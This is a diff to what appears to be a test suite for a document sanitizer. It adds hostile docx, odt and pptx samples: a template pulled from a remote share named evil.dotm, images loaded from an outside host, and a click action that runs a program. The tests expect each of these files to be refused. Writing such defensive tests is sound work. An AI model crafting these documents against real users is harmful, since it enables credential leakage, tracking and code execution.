@@ -256,6 +256,11 @@ def _office() -> Found:
         "docx: template from elsewhere",
         Hostile("a.docx", _changed(word, {"word/_rels/settings.xml.rels": template}), "refused elsewhere"),
     )
+    share = _RELATION.format(what="attachedTemplate", target="file:///\\\\192.0.2.1\\share\\evil.dotm")
+    yield (
+        "docx: template from a share",
+        Hostile("a.docx", _changed(word, {"word/_rels/settings.xml.rels": share}), "refused elsewhere"),
+    )
     tracker = _RELATION.format(what="image", target="http://192.0.2.1/pixel.png")
     yield (
         "docx: picture from elsewhere",
@@ -295,6 +300,10 @@ def _office() -> Found:
     yield "rich text", Hostile("a.rtf", b"{\\rtf1 {\\object\\objdata 0105}}", "refused old_office")
     odt = _changed(files.opendocument(), {"Basic/Standard/Module1.xml": "<a/>"})
     yield "odt: macros", Hostile("a.odt", odt, "refused macros")
+    image = files.opendocument(words='</text:p><draw:image xlink:href="http://192.0.2.1/x.png"/><text:p>')
+    yield "odt: picture from elsewhere", Hostile("a.odt", image, "refused elsewhere")
+    program = files.presentation(words='x</a:t><a:hlinkClick action="ppaction://program"/><a:t>')
+    yield "pptx: a click that runs", Hostile("a.pptx", program, "refused macros")
     listener = files.opendocument(words='x</text:p><script:event-listener xmlns:script="urn:s"/><text:p>')
     yield "odt: listener", Hostile("a.odt", listener, "refused macros")
 
